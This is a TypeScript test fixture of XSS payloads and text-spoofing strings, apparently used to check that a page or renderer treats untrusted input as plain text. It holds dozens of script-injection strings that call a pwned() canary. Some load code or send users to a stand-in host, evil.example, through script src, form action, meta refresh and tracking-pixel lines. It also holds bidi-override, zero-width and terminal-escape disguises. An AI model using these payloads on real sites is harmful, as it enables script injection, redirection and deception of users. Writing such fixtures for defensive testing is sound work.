// Texts that would run, load or leave if a page took them for anything but text. Each calls `pwned()`, which the tests
// watch, or asks a host that nobody may be asked.
const HOST = 'https://evil.example';

const TAGS = [
  '<script>pwned()</script>',
  '</script><script>pwned()</script>',
  '<ScRiPt>pwned()</sCrIpT>',
  `<script src="${HOST}/x.js"></script>`,
  '<img src=x onerror=pwned()>',
  '<img src=x onerror="pwned()"//',
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<body onload=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()>',
  '<textarea autofocus onfocus=pwned()></textarea>',
  '<marquee onstart=pwned()>x</marquee>',
  '<a href="javascript:pwned()">click</a>',
  `<form action="${HOST}"><button>Approve</button></form>`,
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}">`,
  `<link rel="stylesheet" href="${HOST}/x.css">`,
  `<style>@import '${HOST}/x.css'; * { background: url(${HOST}/x) }</style>`,
  `<img src="${HOST}/pixel.gif">`,
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<!--><img src=x onerror=pwned()>-->',
  '<![CDATA[><img src=x onerror=pwned()>]]>',
  '<template><script>pwned()</script></template>',
  '<xss style="animation-name:turn" onanimationstart="pwned()"></xss>',
];

const OTHERS = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  'java\tscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  `[click](javascript:pwned())`,
  `![pixel](${HOST}/pixel.gif)`,
  `${HOST}/plain-address`,
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '`;pwned();`',
  '");pwned();("',
  "';pwned();'",
  '&lt;img src=x onerror=pwned()&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '\\u003cimg src=x onerror=pwned()\\u003e',
  '%3Cscript%3Epwned()%3C/script%3E',
  '{"__html":"<img src=x onerror=pwned()>"}',
  '__proto__',
  'constructor',
];

export const XSS_PAYLOADS: readonly string[] = [...TAGS, ...OTHERS];

/** What reorders, hides or colours text: it is shown spelt out. */
export const DISGUISES: readonly string[] = [
  '\u202eevorppa\u202c',
  '\u2066deny\u2069approve',
  'pay\u200bpal',
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
];
